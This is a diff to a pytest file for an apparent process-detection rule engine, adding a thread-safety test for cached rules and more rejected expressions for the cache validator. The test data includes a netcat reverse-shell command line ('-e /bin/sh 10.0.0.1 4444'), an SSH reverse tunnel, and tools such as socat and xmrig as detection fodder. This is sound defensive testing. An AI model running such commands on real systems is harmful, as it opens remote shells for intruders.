@@ -6,6 +6,7 @@ import json
 import os
 import subprocess
 import sys
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pytest
@@ -109,6 +110,51 @@ def test_cache_is_written_hit_and_invalidated(tmp_path: Path, monkeypatch: pytes
     assert not edited.from_cache and edited.matchers["process_creation"]({"CommandLine": "so evil"}) == []
 
 
+def test_rules_compiled_on_first_use_match_as_compiled_up_front(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A set read from the cache compiles each log source, and each program's rules, on first use,
+    # from many threads at once in a harness: the hits must be those of the freshly compiled set.
+    _fresh(tmp_path, monkeypatch)
+    ov = {"disabled": [], "levels": {}, "exceptions": {}}
+    fresh = _ruleset.ruleset(builtin_rule_paths(), ov)
+    _ruleset._in_process.cache_clear()
+    cached = _ruleset.ruleset(builtin_rule_paths(), ov)
+    assert cached.from_cache and not fresh.from_cache
+    programs = [
+        "nc",
+        "ssh",
+        "curl",
+        "python3",
+        "bash",
+        "socat",
+        "xmrig",
+        "git",
+        "find",
+        "openssl",
+        "wget",
+        "perl",
+    ]
+    records = [
+        {"Image": f"/usr/bin/{p}", "CommandLine": f"{p} {args}", "argv": [p, *args.split()]}
+        for p in programs
+        for args in (
+            "-e /bin/sh 10.0.0.1 4444",
+            "-R 9000:localhost:22 user@host",
+            "--version",
+            "-c 'import os'",
+        )
+    ]
+
+    def hits(rules: _ruleset.RuleSet) -> list[list[int]]:
+        return [rules.matchers["process_creation"](r) for r in records]
+
+    with ThreadPoolExecutor(8) as pool:
+        results = list(pool.map(lambda _: hits(cached), range(8)))
+    expected = hits(fresh)
+    assert any(expected) and all(r == expected for r in results)
+
+
 def test_corrupt_or_planted_cache_is_rebuilt_not_trusted(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -144,7 +190,22 @@ def test_cache_in_a_folder_others_can_write_is_ignored(
 
 @pytest.mark.parametrize(
     "expr",
-    ["K[0].__class__", "open('x')", "(lambda: 1)()", "l0.join(K)", "K[99]", "[x for x in K]", "globals()"],
+    [
+        "K[0].__class__",
+        "open('x')",
+        "(lambda: 1)()",
+        "l0.join(K)",
+        "K[99]",
+        "[x for x in K]",
+        "globals()",
+        "(l0 := K)",
+        "any(*K)",
+        "K[0].search(s0, pos=1)",
+        "-K[0]",
+        "K[0] < l0",
+        "any(x for x in l0 if x)",
+        "K[0].search.search(s0)",
+    ],
 )
 def test_expression_check_refuses_anything_the_compiler_does_not_emit(expr: str) -> None:
     with pytest.raises(_cache.CacheInvalid):
